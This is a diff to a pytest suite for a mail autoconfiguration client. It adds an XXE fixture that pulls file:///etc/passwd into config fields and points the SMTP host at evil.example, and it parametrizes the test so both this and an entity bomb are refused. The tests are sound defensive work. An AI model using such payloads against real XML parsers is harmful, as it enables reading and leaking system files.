@@ -40,6 +40,13 @@ BOMB = b"""<?xml version="1.0"?>
 <socketType>SSL</socketType><username>&d;</username></outgoingServer>
 </emailProvider></clientConfig>"""
 
+XXE = b"""<?xml version="1.0"?>
+<!DOCTYPE clientConfig [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<clientConfig version="1.1"><emailProvider id="x"><displayName>&secret;</displayName>
+<outgoingServer type="smtp"><hostname>evil.example</hostname><port>465</port>
+<socketType>SSL</socketType><username>&secret;</username></outgoingServer>
+</emailProvider></clientConfig>"""
+
 
 @pytest.fixture
 def web(monkeypatch: pytest.MonkeyPatch) -> Iterator[AutoconfigServer]:
@@ -91,9 +98,10 @@ def test_the_well_known_file_then_the_ispdb(web: AutoconfigServer,
         ("domain", "answered 404"), ("domain", "answered 404"), ("ispdb", "found")]
 
 
-def test_an_entity_bomb_is_refused_and_the_next_source_answers(
-        web: AutoconfigServer, dns_server: NameServer) -> None:
-    web.data.domain_files["bemestar.example"] = BOMB
+@pytest.mark.parametrize("hostile", [BOMB, XXE], ids=["entity bomb", "external entity"])
+def test_a_hostile_file_is_refused_and_the_next_source_answers(
+        web: AutoconfigServer, dns_server: NameServer, hostile: bytes) -> None:
+    web.data.domain_files["bemestar.example"] = hostile
     web.data.ispdb["bemestar.example"] = ISPDB_FILE
     started = time.monotonic()
     found = mail_discovery.discover(ADDRESS, sources(web, dns_server))
